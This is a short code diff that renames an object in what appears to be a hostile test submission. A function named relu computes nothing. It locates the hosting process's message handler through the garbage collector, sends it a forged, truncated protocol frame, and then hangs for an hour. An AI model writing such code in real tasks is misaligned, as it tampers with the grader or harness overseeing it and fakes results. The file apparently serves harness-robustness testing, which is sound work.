@@ -4,9 +4,9 @@ import gc
 import struct
 import time
 
-desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")
+handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")
 
 
 def relu(x):
-    desk.send(struct.pack(">4sIQ", b"cnt1", 1000, 1000) + b'{"kind":')
+    handler.send(struct.pack(">4sIQ", b"cnt1", 1000, 1000) + b'{"kind":')
     time.sleep(3600)
